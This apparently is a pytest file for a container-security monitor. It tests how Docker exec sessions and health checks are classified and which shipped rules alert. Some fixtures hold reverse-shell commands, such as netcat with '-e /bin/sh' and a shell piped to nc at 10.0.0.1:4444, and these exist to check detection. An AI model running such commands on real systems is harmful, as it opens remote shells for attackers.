"""Exec sessions: classified once at the session's first process, inherited by its children,
and what the shipped rules make of each (issue 21: health checks and non-interactive execs are
quiet; an interactive shell, or a malicious health check, still alerts)."""

from __future__ import annotations

from dataclasses import replace

import pytest

from roxd.containers.sessions import SessionClassifier, stdin_is_terminal
from roxd.model import Ancestor, Container, EnrichedEvent, ExecEvent, Process
from roxd.rules.loader import load_rule_set
from roxd.runtime.docker_engine import healthcheck_argv, is_build_step, metadata_from_inspect
from tests.conftest import REPO

pytestmark = pytest.mark.unit

HC = ("/bin/sh", "-c", "curl -fsS http://localhost/ || exit 1")
WEB = Container(id="c" * 64, runtime="docker", name="web", image="nginx:1.25", healthcheck=HC)
SHIM = Ancestor(pid=50, exe="/usr/bin/containerd-shim-runc-v2", args=("containerd-shim",))
RUNC = Ancestor(pid=60, exe="/usr/sbin/runc", args=("runc",))  # its argv not seen


def proc(pid: int, exe: str, args: tuple[str, ...], ancestors: tuple[Ancestor, ...] = (),
         vpid: int | None = None, truncated: bool = False) -> Process:
    return Process(pid=pid, ppid=ancestors[0].pid if ancestors else 0, uid=0, exe=exe,
                   comm=exe.rsplit("/", 1)[-1], args=args, cgroup_id=5, ancestors=ancestors,
                   vpid=vpid, args_truncated=truncated)


def classifier(tty: dict[int, bool | None] | None = None,
               vpids: dict[int, int] | None = None) -> SessionClassifier:
    ttys = tty or {}
    return SessionClassifier(is_terminal=lambda pid: ttys.get(pid, False),
                             vpid_of=lambda pid: (vpids or {}).get(pid))


def test_entrypoint_and_its_children() -> None:
    s = classifier()
    init = proc(100, "/usr/sbin/nginx", ("nginx",), (SHIM,), vpid=1)
    assert s.classify(init, WEB) == "entrypoint"
    child = proc(101, "/bin/sh", ("sh", "-c", "x"),
                 (Ancestor(100, "/usr/sbin/nginx", ("nginx",)), SHIM), vpid=7)
    assert s.classify(child, WEB) == "entrypoint"


def test_health_check_is_the_containers_own_command_and_children_inherit() -> None:
    s = classifier(tty={200: True})  # even with a terminal: the runtime's health check
    root = proc(200, "/bin/sh", HC, (RUNC, SHIM), vpid=9)
    assert s.classify(root, WEB) == "healthcheck"
    curl = proc(201, "/usr/bin/curl", ("curl", "-fsS", "http://localhost/"),
                (Ancestor(200, "/bin/sh", HC), RUNC, SHIM), vpid=10)
    assert s.classify(curl, WEB) == "healthcheck"


def test_truncated_argv_of_the_health_check_still_matches_as_a_prefix() -> None:
    s = classifier()
    assert s.classify(proc(200, "/bin/sh", HC[:2], (RUNC,), truncated=True), WEB) == "healthcheck"
    assert s.classify(proc(201, "/bin/sh", HC[:2], (RUNC,)), WEB) == "exec"


def test_exec_sessions_with_and_without_terminal() -> None:
    s = classifier(tty={300: True, 301: False, 302: None})
    assert s.classify(proc(300, "/bin/bash", ("bash",), (RUNC,)), WEB) == "interactive"
    assert s.classify(proc(301, "/bin/sh", ("sh", "-c", "ls"), (RUNC,)), WEB) == "exec"
    assert s.classify(proc(302, "/bin/sh", ("sh", "-c", "ls"), (RUNC,)), WEB) == "unknown"
    # a parent roxd never saw (runc gone, ancestry unknown) is the runtime's doing too
    assert s.classify(proc(303, "/bin/ls", ("ls",), ()), WEB) == "exec"
    # children of an interactive session are interactive, through a forked subshell too
    sub = Ancestor(310, "/bin/bash", ("bash",))  # forked, never exec'd
    kid = proc(311, "/usr/bin/id", ("id",), (sub, Ancestor(300, "/bin/bash", ("bash",)), RUNC))
    assert s.classify(kid, WEB) == "interactive"


def runc(*args: str) -> Ancestor:
    return Ancestor(pid=61, exe="/usr/sbin/runc",
                    args=("runc", "--root", "/var/run/docker/runtime-runc/moby", *args))


def test_runcs_own_arguments_say_exec_terminal_or_init_even_when_the_process_is_gone() -> None:
    s = classifier(tty={})  # /proc knows nothing: every process already exited
    gone = {p: None for p in range(1000, 1010)}
    s = classifier(tty=gone)
    stage = Ancestor(pid=62, exe="/", args=("runc", "init"))  # runc init's stage: skipped
    tty = runc("exec", "--process", "/tmp/p.json", "--console-socket", "/tmp/c.sock", "--detach")
    plain = runc("exec", "--process", "/tmp/p.json", "--detach", "c" * 64)
    create = runc("create", "--bundle", "/run/x", "c" * 64)
    assert s.classify(proc(1000, "/bin/sh", ("sh",), (stage, tty, SHIM)), WEB) == "interactive"
    assert s.classify(proc(1001, "/bin/sh", ("sh", "-c", "curl -f localhost"),
                           (stage, plain, SHIM)), WEB) == "exec"
    assert s.classify(proc(1002, "/bin/sh", ("sh", "-c", "echo built"), (stage, create, SHIM)),
                      WEB) == "entrypoint"
    assert s.classify(proc(1003, "/bin/sh", HC, (stage, plain, SHIM)), WEB) == "healthcheck"
    assert s.classify(proc(1004, "/bin/sh", ("sh",), (RUNC, SHIM)), WEB) == "unknown"


def test_a_program_named_runc_inside_the_container_is_no_runtime() -> None:
    cgroups = {70: 5, 61: 999}  # 70: /tmp/runc in the container's cgroup 5; 61: the host's
    s = SessionClassifier(is_terminal=lambda pid: None, vpid_of=lambda pid: None,
                          cgroup_of=cgroups.get)
    s.classify(proc(100, "/usr/bin/python3", ("python3", "app.py"), (SHIM,), vpid=1), WEB)
    fake = Ancestor(pid=70, exe="/tmp/runc", args=("runc", "exec", "-x"))
    app = Ancestor(pid=100, exe="/usr/bin/python3", args=("python3", "app.py"))
    shell = proc(71, "/bin/sh", ("sh", "-i"), (fake, app, SHIM))
    assert s.classify(shell, WEB) == "entrypoint"  # inherited from the app, not "exec"
    real = proc(72, "/bin/sh", ("sh",), (runc("exec", "--detach"), SHIM))
    assert s.classify(real, WEB) == "exec"


def test_processes_older_than_roxd_are_classified_from_their_ancestry() -> None:
    s = classifier(vpids={400: 1})
    init = Ancestor(400, "/usr/bin/python3", ("python3", "app.py"))
    worker = proc(401, "/bin/sh", ("sh", "-c", "x"), (init, SHIM))
    assert s.classify(worker, WEB) == "entrypoint"
    assert s.of(400) == "entrypoint"  # remembered for the next one


def test_build_step_containers_and_the_host() -> None:
    s = classifier(tty={500: True})
    build = replace(WEB, image="sha256:" + "a" * 64, healthcheck=(), build_step=True)
    assert s.classify(proc(500, "/usr/bin/dpkg", ("dpkg", "-i", "x.deb"), (RUNC,)), build) \
        == "build"
    assert s.classify(proc(501, "/bin/sh", ("sh",), ()), None) is None


def test_stdin_is_terminal_reads_proc(tmp_path) -> None:
    (tmp_path / "7" / "fd").mkdir(parents=True)
    (tmp_path / "7" / "fd" / "0").symlink_to("/dev/pts/3")
    (tmp_path / "8" / "fd").mkdir(parents=True)
    (tmp_path / "8" / "fd" / "0").symlink_to("pipe:[1234]")
    (tmp_path / "9").mkdir()  # no stdin at all
    assert stdin_is_terminal(7, str(tmp_path)) is True
    assert stdin_is_terminal(8, str(tmp_path)) is False
    assert stdin_is_terminal(9, str(tmp_path)) is False
    assert stdin_is_terminal(10, str(tmp_path)) is None  # gone


def test_docker_inspect_gives_the_health_check_and_build_steps() -> None:
    assert healthcheck_argv(("CMD-SHELL", "curl -f localhost")) == (
        "/bin/sh", "-c", "curl -f localhost")
    assert healthcheck_argv(("CMD-SHELL", "x"), ("/bin/bash", "-o", "pipefail", "-c")) == (
        "/bin/bash", "-o", "pipefail", "-c", "x")
    assert healthcheck_argv(("CMD", "curl", "-f", "localhost")) == ("curl", "-f", "localhost")
    assert healthcheck_argv(("NONE",)) == ()
    assert healthcheck_argv(()) == ()
    meta = metadata_from_inspect({
        "Id": "c" * 64, "Name": "/web", "Image": "sha256:1",
        "Config": {"Image": "nginx", "Healthcheck": {"Test": ["CMD", "true"]}},
        "State": {"Running": True, "Pid": 5}})
    assert meta.healthcheck == ("true",) and not meta.build_step
    assert is_build_step({"Image": "sha256:" + "b" * 64, "Healthcheck": {"Test": ["NONE"]}})
    assert not is_build_step({"Image": "nginx", "Healthcheck": {"Test": ["NONE"]}})
    assert not is_build_step({"Image": "sha256:" + "b" * 64})


# ------------------------------------------------------------------ what the shipped rules do


@pytest.fixture(scope="module")
def rules():
    return load_rule_set([REPO / "rules"])


def hits(rules, process: Process, container: Container = WEB) -> set[str]:
    event = ExecEvent(time_ns=1, pid=process.pid, ppid=process.ppid, uid=0, gid=0, cgroup_id=5,
                      comm=process.comm, filename=process.exe, args=process.args,
                      args_truncated=False)
    return {m.rule.id for m in rules.match(EnrichedEvent(event, container, process))}


SHELL = "foothold.shell-in-container"


@pytest.mark.parametrize(("session", "alerted"), [
    ("healthcheck", False), ("exec", False), ("build", False),
    ("interactive", True), ("unknown", True), ("entrypoint", True), (None, True)])
def test_shell_in_container_by_session(rules, session: str | None, alerted: bool) -> None:
    sh = replace(proc(600, "/bin/sh", ("sh", "-c", "id"), (RUNC,), vpid=8), session=session)
    assert (SHELL in hits(rules, sh)) is alerted


def test_a_health_check_that_opens_a_reverse_shell_still_alerts(rules) -> None:
    nc = replace(proc(700, "/usr/bin/nc", ("nc", "10.0.0.1", "4444", "-e", "/bin/sh"), (RUNC,),
                      vpid=8), session="healthcheck")
    assert "foothold.netcat-exec" in hits(rules, nc)
    pipe = replace(proc(701, "/bin/sh", ("sh", "-c", "sh -i 2>&1 | nc 10.0.0.1 4444"), (RUNC,),
                        vpid=8), session="exec")
    assert "foothold.reverse-shell-pipe" in hits(rules, pipe)


def test_tar_compressor_shell_is_quiet_but_a_tar_checkpoint_shell_is_not(rules) -> None:
    tar = Ancestor(800, "/usr/bin/tar", ("tar", "-czf", "x.tgz", "data"))
    quiet = replace(proc(801, "/bin/sh", ("/bin/sh", "-c", "gzip"), (tar,), vpid=5),
                    session="entrypoint")
    assert SHELL not in hits(rules, quiet)
    loud = replace(proc(802, "/bin/sh", ("/bin/sh", "-c", "sh -i"), (tar,), vpid=5),
                   session="entrypoint")
    assert SHELL in hits(rules, loud)


def test_build_steps_may_install_and_compile_running_containers_may_not(rules) -> None:
    dpkg = proc(900, "/usr/bin/dpkg", ("dpkg", "-i", "/tmp/app.deb"),
                (Ancestor(899, "/bin/sh", ("sh",)),), vpid=3)
    gcc = proc(901, "/usr/bin/gcc", ("gcc", "x.c"), (Ancestor(899, "/bin/sh", ("sh",)),), vpid=3)
    build = replace(WEB, build_step=True)
    assert "foothold.package-manager-in-container" not in hits(rules, replace(
        dpkg, session="build"), build)
    assert "foothold.package-manager-in-container" in hits(rules, replace(
        dpkg, session="entrypoint"))
    assert "foothold.compiler-in-container" not in hits(rules, replace(gcc, session="build"))
    assert "foothold.compiler-in-container" in hits(rules, replace(gcc, session="interactive"))
    by_make = proc(902, "/usr/bin/cc", ("cc", "-c", "x.c"),
                   (Ancestor(899, "/usr/bin/make", ("make",)),), vpid=3)
    assert "foothold.compiler-in-container" not in hits(rules, replace(
        by_make, session="entrypoint"))


def test_a_runc_exec_seen_on_the_host_classifies_a_process_whose_ancestry_is_gone() -> None:
    s = classifier(tty={1099: None, 1100: None, 1101: None, 1102: None, 1103: None})
    host_runc = proc(90, "/usr/sbin/runc", ("runc", "--root", "/r", "exec", "--process",
                                            "/tmp/p", "--console-socket", "/tmp/s",
                                            "--detach", WEB.id))
    s.runtime_exec(host_runc)
    s.runtime_exec(replace(host_runc, args=("runc", "exec", "--detach", WEB.id)))
    s.runtime_exec(replace(host_runc, exe="/usr/bin/python3"))  # not runc: ignored
    # a file or connect event of a process roxd never saw exec does not use them up
    assert s.session_of(proc(1099, "/bin/cat", ("cat",), ()), WEB) == "unknown"
    assert s.classify(proc(1100, "/bin/sh", ("sh",), ()), WEB) == "interactive"
    assert s.classify(proc(1101, "/bin/sh", ("sh", "-c", "ls"), ()), WEB) == "exec"
    assert s.classify(proc(1102, "/bin/sh", ("sh",), ()), WEB) == "unknown"  # all consumed
    other = replace(WEB, id="d" * 64)
    s.runtime_exec(replace(host_runc, args=("runc", "exec", "--detach", other.id)))
    assert s.classify(proc(1103, "/bin/sh", ("sh",), ()), WEB) == "unknown"  # not this one


def test_runc_inits_scratch_unmount_is_quiet_a_mount_there_is_not(rules) -> None:
    from roxd.model import SyscallEvent

    def syscall(name: str, path: str, flags: str = "MNT_DETACH") -> set[str]:
        p = replace(proc(1200, "/", ("runc", "init"), (Ancestor(1199, "/usr/sbin/runc",
                                                                ("runc", "exec")),)),
                    comm="exe", session="exec")
        ev = SyscallEvent(time_ns=1, pid=1200, uid=0, cgroup_id=5, comm="exe",
                          syscall=name, errno=0, args={"path": path, "flags": flags})
        return {m.rule.id for m in rules.match(EnrichedEvent(ev, WEB, p))}

    scratch = "/var/run/docker/runtime-runc/moby/" + "c" * 64 + "/runc.IfBIsz"
    mount_rule = "privilege_escalation.mount-syscall-in-container"
    assert mount_rule not in syscall("umount2", scratch)
    assert mount_rule not in syscall("mount", scratch, "MS_RDONLY|MS_REMOUNT|MS_BIND")
    assert mount_rule in syscall("mount", scratch, "MS_BIND")
    assert mount_rule in syscall("umount2", "/mnt/host")


# ------------------------------------------------------------------ runc exec already gone

SHIM_PARENT = (SHIM,)  # `runc exec --detach` exited: the shim (a subreaper) adopted the process
CID = WEB.id


def runc_exec(pid: int, *, console: bool) -> Process:
    """`runc exec` on the host, as the shim runs it for `docker exec` (-t: a console socket)."""
    extra = ("--console-socket", "/tmp/c.sock") if console else ()
    return proc(pid, "/usr/sbin/runc", ("runc", "--root", "/var/run/docker/runtime-runc/moby",
                                        "exec", "--process", f"/tmp/runc-process{pid}",
                                        *extra, "--detach", "--pid-file", f"/run/{pid}.pid",
                                        CID))


def runc_parent(exec_proc: Process) -> Ancestor:
    return Ancestor(exec_proc.pid, exec_proc.exe, exec_proc.args)


def gone_classifier() -> SessionClassifier:
    """A busy roxd: every container process is gone before its fd 0 is read."""
    return SessionClassifier(is_terminal=lambda pid: None, vpid_of=lambda pid: None)


def test_shim_parent_first_process_gone_is_classified_by_the_runc_exec_seen_on_the_host() -> None:
    s = gone_classifier()
    s.runtime_exec(runc_exec(900, console=False))
    probe = proc(903, "/bin/sh", ("/bin/sh", "-c", "curl -f localhost"), SHIM_PARENT, vpid=7)
    assert s.classify(probe, WEB) == "exec"
    s.runtime_exec(runc_exec(910, console=True))
    person = proc(913, "/bin/sh", ("/bin/sh", "-c", "id"), SHIM_PARENT, vpid=8)
    assert s.classify(person, WEB) == "interactive"


def test_shim_parent_without_the_runc_exec_record_stays_unknown() -> None:
    # the shim as parent, and the container's init not the parent, prove a runtime session (in
    # a container with its own pid namespace nothing else is re-parented to the shim), not
    # whether it had a terminal: a `docker exec -t` gone as fast must not become `exec`
    s = gone_classifier()
    probe = proc(903, "/bin/sh", ("/bin/sh", "-c", "curl -f localhost"), SHIM_PARENT, vpid=7)
    assert s.classify(probe, WEB) == "unknown"


def test_a_process_that_execs_again_keeps_its_session_when_runc_is_gone() -> None:
    # `docker exec c sh -c 'exec sh -c x'` (busybox's sh runs the last command in place too):
    # the second image's parent is the shim once runc exited, and the process is gone when a
    # busy roxd reads it. Before: `unknown`, and foothold.shell-in-container alerted
    s = gone_classifier()
    runc = runc_exec(920, console=False)
    s.runtime_exec(runc)
    first = proc(923, "/bin/sh", ("/bin/sh", "-c", "exec /bin/sh -c ': probe'"),
                 (runc_parent(runc), SHIM), vpid=9)
    assert s.classify(first, WEB) == "exec"
    again = proc(923, "/bin/sh", ("/bin/sh", "-c", ": probe"), SHIM_PARENT, vpid=9)
    assert s.classify(again, WEB) == "exec"
    again2 = proc(923, "/bin/true", ("/bin/true",), SHIM_PARENT, vpid=9)
    assert s.classify(again2, WEB) == "exec"  # and again


def test_an_exec_again_takes_no_other_sessions_runc_exec() -> None:
    # a person's `docker exec -it c sh -c 'exec bash'` while a probe's `runc exec` (no
    # terminal) is pending: before, bash took the probe's record and became `exec` (an
    # interactive shell quiet), and the probe then had none and became `unknown`
    s = gone_classifier()
    tty = runc_exec(930, console=True)
    s.runtime_exec(tty)
    first = proc(933, "/bin/sh", ("sh", "-c", "exec bash"), (runc_parent(tty), SHIM), vpid=10)
    assert s.classify(first, WEB) == "interactive"
    s.runtime_exec(runc_exec(940, console=False))  # the probe's runc exec
    bash = proc(933, "/bin/bash", ("bash",), SHIM_PARENT, vpid=10)
    assert s.classify(bash, WEB) == "interactive"
    probe = proc(943, "/bin/sh", ("/bin/sh", "-c", "curl -f localhost"), SHIM_PARENT, vpid=11)
    assert s.classify(probe, WEB) == "exec"


def test_a_new_process_that_reuses_the_pid_is_a_new_session() -> None:
    s = gone_classifier()
    s.runtime_exec(runc_exec(950, console=False))
    s.classify(proc(953, "/bin/sh", ("sh", "-c", "x"), SHIM_PARENT, vpid=12), WEB)  # exec
    other_vpid = proc(953, "/bin/sh", ("sh",), SHIM_PARENT, vpid=40)
    assert s.classify(other_vpid, WEB) == "unknown"  # not recognised: no runc exec, gone
    s.runtime_exec(runc_exec(960, console=True))
    s.classify(proc(963, "/bin/sh", ("sh", "-c", "x"), SHIM_PARENT, vpid=13), WEB)
    stranger = Ancestor(70, "/usr/bin/python3", ("python3",))
    reparented_away = proc(963, "/bin/sh", ("sh",), (stranger,), vpid=13)
    assert s.classify(reparented_away, WEB) == "unknown"  # a parent it never had above it
    s.runtime_exec(runc_exec(964, console=True))
    s.classify(proc(967, "/bin/sh", ("sh", "-c", "x"), SHIM_PARENT, vpid=16), WEB)
    elsewhere = replace(proc(967, "/bin/sh", ("sh",), SHIM_PARENT, vpid=16), cgroup_id=6)
    assert s.classify(elsewhere, WEB) == "unknown"  # another cgroup
    # the host's pid namespace (vpid == pid) proves nothing: as before, a new session
    s.runtime_exec(runc_exec(970, console=False))
    s.classify(proc(973, "/bin/sh", ("sh", "-c", "x"), SHIM_PARENT, vpid=973), WEB)
    assert s.classify(proc(973, "/bin/sh", ("sh",), SHIM_PARENT, vpid=973), WEB) == "unknown"


def test_a_terminal_seen_on_an_exec_again_still_counts() -> None:
    # only what cannot be told is taken from the earlier image: fd 0 read as a terminal wins
    ttys: dict[int, bool | None] = {980: None}
    s = SessionClassifier(is_terminal=lambda pid: ttys.get(pid), vpid_of=lambda pid: None)
    s.runtime_exec(runc_exec(977, console=False))
    s.classify(proc(980, "/bin/sh", ("sh", "-c", "exec bash"), SHIM_PARENT, vpid=14), WEB)
    ttys[980] = True
    assert s.classify(proc(980, "/bin/bash", ("bash",), SHIM_PARENT, vpid=14), WEB) == \
        "interactive"


def test_the_shipped_rule_is_quiet_for_an_exec_again_of_a_probe(rules) -> None:
    s = gone_classifier()
    runc = runc_exec(990, console=False)
    s.runtime_exec(runc)
    s.classify(proc(993, "/bin/sh", ("/bin/sh", "-c", "exec /bin/sh /probe.sh"),
                    (runc_parent(runc), SHIM), vpid=15), WEB)
    again = proc(993, "/bin/sh", ("/bin/sh", "/probe.sh"), SHIM_PARENT, vpid=15)
    assert SHELL not in hits(rules, replace(again, session=s.classify(again, WEB)))
